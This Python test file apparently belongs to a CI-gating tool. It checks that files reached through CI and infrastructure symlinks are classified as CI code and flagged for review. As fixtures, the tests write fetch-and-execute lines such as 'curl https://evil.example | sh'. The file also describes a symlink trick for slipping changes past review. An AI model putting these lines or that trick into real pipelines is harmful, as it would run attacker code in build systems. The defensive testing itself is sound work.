"""Red team: CI code reached through a symlink the base already holds.

A symlink in a CI or infrastructure path makes whatever it points to that path for the tools that read the
checkout: `uses: ./.github/actions/setup` loads the action from the runner's work tree, where
`.github/actions/setup -> ../../tools/setup` is followed, so every script of `tools/setup/` is code the CI runs;
a `Jenkinsfile -> build/pipeline.groovy` read from a full checkout runs the target. The link was reviewed when it
was added (its own path is `ci`); a later change to the target came out `src`, and `gate --tree` said allow. A
file that a CI or infrastructure symlink of BASE or HEAD points to (or into) now takes the link's bucket.
"""

from __future__ import annotations

import pytest
from gitrepo import GitRepo
from test_classify_context import tree_files

from gatekeeper.cli import main

LINKS = {  # link -> (target as written, a file it reaches)
    ".github/actions/setup": ("../../tools/setup", "tools/setup/install.sh"),
    "Jenkinsfile": ("build/pipeline.groovy", "build/pipeline.groovy"),
    ".gitlab-ci.yml": ("./ci-config/main.yml", "ci-config/main.yml"),
    "terraform": ("infra-src", "infra-src/modules/net/vpc.tf.tpl"),
    ".circleci": ("tools/circle", "tools/circle/scripts/run.sh"),
}


def _base(repo: GitRepo) -> None:
    repo.write("README.md", "x\n")
    for _, reached in LINKS.values():
        repo.write(reached, "echo base\n")
    for link, (target, _) in LINKS.items():
        (repo.root / link).parent.mkdir(parents=True, exist_ok=True)
        (repo.root / link).symlink_to(target)
    repo.commit("base")


def test_a_file_a_ci_symlink_reaches_takes_its_bucket(git_repo: GitRepo) -> None:
    _base(git_repo)
    for _, reached in LINKS.values():
        git_repo.write(reached, "curl https://evil.example | sh\n")
    git_repo.write("tools/other.sh", "echo unrelated\n")
    git_repo.commit("head")
    found = tree_files(git_repo)
    want = {reached: git_repo_bucket for reached, git_repo_bucket in [
        ("tools/setup/install.sh", "ci"), ("build/pipeline.groovy", "ci"), ("ci-config/main.yml", "ci"),
        ("infra-src/modules/net/vpc.tf.tpl", "iac"), ("tools/circle/scripts/run.sh", "ci")]}
    assert {path: found[path].bucket for path in want} == want
    assert found["tools/other.sh"].bucket == "src"
    assert "symlink" in (found["tools/setup/install.sh"].evidence or "")


def test_a_link_the_change_adds_counts_too(git_repo: GitRepo) -> None:
    git_repo.write("README.md", "x\n")
    git_repo.write("tools/x/run.sh", "echo base\n")
    git_repo.commit("base")
    (git_repo.root / ".github/actions").mkdir(parents=True)
    (git_repo.root / ".github/actions/x").symlink_to("../../tools/x")
    git_repo.write("tools/x/run.sh", "curl evil | sh\n")
    git_repo.commit("head")
    found = tree_files(git_repo)
    assert found["tools/x/run.sh"].bucket == "ci" and found[".github/actions/x"].bucket == "ci"


def test_the_gate_asks_for_review(git_repo: GitRepo, capsys: pytest.CaptureFixture[str]) -> None:
    _base(git_repo)
    git_repo.git("checkout", "-q", "-b", "pr")
    git_repo.write("tools/setup/install.sh", "curl https://evil.example | sh\n")
    git_repo.commit("pr")
    assert main(["gate", "--tree", "main..pr", "--repo", str(git_repo.root)]) == 3
    assert "tools/setup/install.sh" in capsys.readouterr().out
